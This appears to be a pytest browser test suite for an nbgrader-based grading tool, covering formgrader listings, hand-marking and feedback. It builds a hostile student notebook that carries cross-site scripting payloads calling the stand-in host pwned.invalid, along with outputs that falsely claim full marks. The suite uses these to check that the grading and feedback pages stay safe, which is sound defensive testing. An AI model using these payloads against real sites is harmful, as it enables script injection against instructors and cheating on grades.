"""An instructor with a class, in a browser: formgrader, marks by hand, feedback."""

import subprocess
import sys

import nbformat
import pytest
import sample_class
from chromium import expect
from course import REPOSITORY, exercises_of, grade_id, released_of, write
from nbconvert import HTMLExporter
from nbformat.v4 import new_output
from required import require

from backprop_classroom.grading.sandbox import why_no_sandbox
from backprop_classroom.release import lessons, notebook_of
from backprop_classroom.report import write_report

LESSON, NAME = "03_backward_pass", "backward_pass"
WRITTEN = "explain_the_bug"
HOSTILE = "mallory"
SIZE = 2

# Each bait asks for an address of its own as soon as a browser believes it: those above by
# running something, those below as soon as they are shown.
RUN = "document.title='pwned';new Image().src='http://pwned.invalid/{name}'"
RUNNING = {
    "script": "<script>{run}</script>",
    "fetch": "<script>fetch('http://pwned.invalid/{name}')</script>",
    "picture": '<img src="data:," onerror="{run}">',
    "drawing": '<svg onload="{run}"></svg>',
    "details": '<details open ontoggle="{run}"><summary>x</summary></details>',
    "frame": '<iframe srcdoc="<script>{run}</script>"></iframe>',
    "sound": '<audio src="data:," onerror="{run}"></audio>',
    "field": '<input autofocus onfocus="{run}">',
    "end-of-cell": "</pre></div></section><script>{run}</script>",
}
SHOWN = {
    "picture-elsewhere": '<img src="http://pwned.invalid/{name}">',
    "style": '<p style="background: url(http://pwned.invalid/{name})">x</p>',
    "sheet": '<link rel="stylesheet" href="http://pwned.invalid/{name}">',
    "frame-elsewhere": '<iframe src="http://pwned.invalid/{name}"></iframe>',
    "object": '<object data="http://pwned.invalid/{name}"></object>',
}


def baits(place, besides=()):
    """The baits by their names, for one place in a notebook."""
    return {
        f"{place}-{kind}": bait.format(
            name=f"{place}-{kind}", run=RUN.format(name=f"{place}-{kind}")
        )
        for kind, bait in (RUNNING | SHOWN).items()
        if kind not in besides
    }


IN_OUTPUTS = baits("output")
# One field of a page has the focus; within a paragraph, a script's quotes are escaped.
IN_ANSWER = baits("answer", besides=["field", "end-of-cell"])
IN_JAVASCRIPT = RUN.format(name="output-javascript")
ALL_BAITS = {*IN_OUTPUTS, *IN_ANSWER, "output-javascript"}


def hostile_notebook():
    """The lesson untouched, but for baits in outputs and in the written answer.

    Its outputs claim full marks.
    """
    notebook = released_of(LESSON)
    data = [{"text/html": bait} for bait in IN_OUTPUTS.values()]
    data.append({"application/javascript": IN_JAVASCRIPT})
    shown = [f"display({each!r}, raw=True)" for each in data]
    for cell in notebook.cells:
        id = grade_id(cell)
        if id == "paste_forward_propagation":
            cell.outputs = [new_output("display_data", each) for each in data]
            # What is run in the sandbox shows the same.
            cell.source = "\n".join([cell.source, *shown])
        elif id == WRITTEN:
            cell.source = "\n\n".join(IN_ANSWER.values())
        elif id.startswith("check_"):
            claim = {"text/plain": str(float(cell.metadata.nbgrader.points))}
            cell.outputs = [new_output("execute_result", claim, execution_count=1)]
    return notebook


def classes():
    for seed in range(100):
        yield list(sample_class.members(SIZE, seed))


def differ(several):
    """Whether one of two wrote the answer that a person marks, and their points differ."""
    written = {one.expected[WRITTEN] for one in several}
    return written == {None, 0.0} and len({automatic(one) for one in several}) == SIZE


@pytest.fixture(scope="module")
def members(course):
    """The honest members of a class by name; the class is graded, with a hostile one in it."""
    require(not why_no_sandbox(), why_no_sandbox())
    honest = {member.student: member for member in next(filter(differ, classes()))}
    notebooks = {name: member.notebook for name, member in honest.items()}
    for name, notebook in {**notebooks, HOSTILE: hostile_notebook()}.items():
        write(notebook, course / "submitted" / name / LESSON / f"{NAME}.ipynb")
    grading = [sys.executable, "-m", "backprop_classroom", "grade", LESSON]
    done = subprocess.run(grading, cwd=course, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    return honest


def automatic(member):
    """The points of a member that no person gives."""
    return sum(points or 0 for points in member.expected.values())


def row_of(page, student):
    """The line of a student in formgrader's list of submissions."""
    return page.locator("#main-table tr", has=page.get_by_text(student, exact=True))


def generate_feedback(page, student):
    row_of(page, student).locator(".generate-feedback a").click()
    expect(page.locator(".modal-dialog")).to_contain_text("Successfully generated feedback")


def test_formgrader_lists_the_lessons_and_generates_one(desk, course, members):
    released = notebook_of(course / "notebooks" / LESSON)
    before = nbformat.read(released, as_version=4)
    if not desk.in_the_lab:
        desk.go("lab?reset")
    desk.page.locator(".lm-MenuBar-itemLabel", has_text="Nbgrader").click()
    desk.page.locator(".lm-Menu-itemLabel").get_by_text("Formgrader", exact=True).click()
    page = desk.page.frame_locator("iframe[src*=formgrader]")
    for lesson in lessons(REPOSITORY):
        expect(page.get_by_role("link", name=lesson, exact=True)).to_be_visible()
    desk.picture("lessons")
    row = page.locator("#main-table tr", has_text=LESSON)
    expect(row.locator(".num-submissions")).to_have_text(str(SIZE + 1))
    row.locator(".assign a").click()
    told = page.locator(".modal-dialog")
    expect(told).to_contain_text("Successfully created the student version")
    desk.picture("generated")
    assert nbformat.read(released, as_version=4) == before


def baits_taken(desk):
    """The names of the baits that a page has believed so far."""
    return {url.rpartition("/")[2] for url in desk.requests if "pwned.invalid" in url}


def test_a_hostile_submission_that_is_opened_in_the_lab_runs_and_fetches_nothing(desk, course):
    notebook = hostile_notebook()
    baited = ("paste_forward_propagation", WRITTEN)
    notebook.cells = [cell for cell in notebook.cells if grade_id(cell) in baited]
    write(notebook, course / "hostile.ipynb")
    refused = {}
    desk.window.on("requestfailed", lambda request: refused.update({request.url: request.failure}))
    lesson = desk.open("hostile.ipynb")
    lesson.cell("paste_forward_propagation")
    desk.page.wait_for_load_state("networkidle")
    desk.picture("hostile-outputs")
    lesson.cell(WRITTEN)
    picture = "http://pwned.invalid/answer-picture-elsewhere"
    # By the policy of the server, before anybody is asked where this is.
    desk.until(lambda: refused.get(picture) == "csp", lambda: refused)
    desk.page.wait_for_load_state("networkidle")
    desk.picture("hostile-answer")
    assert {why for url, why in refused.items() if "pwned.invalid" in url} == {"csp"}
    ran = {f"{place}-{kind}" for place in ("output", "answer") for kind in RUNNING}
    assert baits_taken(desk) & {*ran, "output-javascript"} == set()
    assert desk.dialogs == []


def test_the_class_is_listed_with_the_points_that_the_judge_gave(desk, members):
    desk.go(f"formgrader/manage_submissions/{LESSON}")
    most = sum(entry.points for entry in exercises_of(LESSON))
    for student, member in members.items():
        row = row_of(desk.page, student)
        expect(row.locator(".score")).to_have_text(f"{automatic(member):g} / {most:g}")
        written = member.expected[WRITTEN] is None
        status = "needs manual grading" if written else "graded"
        expect(row.locator(".status")).to_have_text(status)
    # Its outputs claim full marks.
    row = row_of(desk.page, HOSTILE)
    expect(row.locator(".score")).to_have_text(f"0 / {most:g}")
    desk.picture("class")


def test_the_baits_work_where_nothing_is_cleaned(desk, tmp_path):
    """Else a page that takes none of them would prove nothing."""
    page, _ = HTMLExporter().from_notebook_node(hostile_notebook())
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    desk.page.goto((tmp_path / "page.html").as_uri())
    desk.until(lambda: baits_taken(desk) == ALL_BAITS, lambda: ALL_BAITS - baits_taken(desk))
    assert desk.page.title() == "pwned"


def test_nothing_that_a_student_hands_in_runs_in_the_pages_of_formgrader(desk, members):
    desk.go(f"formgrader/manage_students/{HOSTILE}/{LESSON}")
    desk.page.get_by_role("link", name=NAME).click()
    answer = desk.page.locator(".nbgrader_cell", has=desk.page.locator(f"#{WRITTEN}"))
    answer.scroll_into_view_if_needed()
    desk.page.wait_for_load_state("networkidle")
    desk.picture("hostile-submission")
    assert baits_taken(desk) == set()
    assert desk.dialogs == []
    assert desk.page.title() == NAME


def test_nothing_that_a_student_hands_in_runs_in_feedback_or_report(desk, course, members):
    desk.go(f"formgrader/manage_submissions/{LESSON}")
    generate_feedback(desk.page, HOSTILE)
    write_report(course, LESSON)
    feedback = course / "feedback" / HOSTILE / LESSON / f"{NAME}.html"
    for page in (feedback, course / "report" / f"{LESSON}.html"):
        desk.page.goto(page.as_uri())
        desk.page.wait_for_load_state("networkidle")
        desk.picture(page.stem)
        assert baits_taken(desk) == set()
        assert desk.page.title() != "pwned"


def test_a_written_answer_is_marked_with_its_scheme_at_hand_and_the_feedback_tells(
    desk, course, members
):
    student, member = next(
        (name, member) for name, member in members.items() if member.expected[WRITTEN] is None
    )
    desk.go(f"formgrader/manage_submissions/{LESSON}")
    page = desk.page
    row_of(page, student).get_by_role("link").first.click()
    page.get_by_role("link", name=NAME).click()
    # What is typed before is not heard.
    page.wait_for_function("window.formgrader?.grades?.loaded && formgrader.comments?.loaded")
    answer = page.locator(".nbgrader_cell", has=page.locator(f"#{WRITTEN}"))
    scheme = page.get_by_text("Last version, 1 point")
    expect(scheme).to_be_visible()
    field = answer.locator("input.score")
    field.scroll_into_view_if_needed()
    with page.expect_response("**/formgrader/api/grade/*"):
        field.fill("1.5")
        field.press("Tab")
    with page.expect_response("**/formgrader/api/comment/*"):
        answer.locator("textarea").fill("A reason for the **last** version, please.")
        answer.locator("textarea").press("Tab")
    scheme.scroll_into_view_if_needed()
    desk.picture("marked")

    desk.go(f"formgrader/manage_submissions/{LESSON}")
    row = row_of(page, student)
    expect(row.locator(".status")).to_have_text("graded")
    expect(row.locator(".score")).to_contain_text(f"{automatic(member) + 1.5:g} /")
    generate_feedback(page, student)
    desk.picture("feedback-generated")

    page.goto((course / "feedback" / student / LESSON / f"{NAME}.html").as_uri())
    expect(page.get_by_role("heading", level=4)).to_contain_text(f"{automatic(member) + 1.5:g}")
    comment = page.get_by_text("A reason for the")
    comment.scroll_into_view_if_needed()
    desk.picture("feedback")
